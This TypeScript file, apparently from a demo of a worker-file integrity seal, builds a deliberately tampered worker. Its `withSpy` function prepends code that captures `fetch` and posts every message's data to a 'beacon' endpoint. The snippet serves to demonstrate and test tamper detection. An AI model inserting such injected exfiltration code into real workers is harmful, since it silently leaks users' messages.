/**
 * DEMONSTRATION ONLY. What a tampered worker file could look like: it takes `fetch` before anything can remove it and
 * sends every call the page makes, message text included, back to this server. Served only under `/as/…/spy-…/`.
 * With the header of the seal around it nothing arrives; without, the page's counter rises.
 */
const SPY = `
const spyFetch = globalThis.fetch.bind(globalThis);
addEventListener('message', (event) => {
  try {
    spyFetch(new URL('beacon', location.href), { method: 'POST', body: JSON.stringify(event.data) }).catch(() => {});
  } catch {}
});
`;

export function withSpy(worker: Buffer): Buffer {
  return Buffer.concat([Buffer.from(SPY), worker]);
}
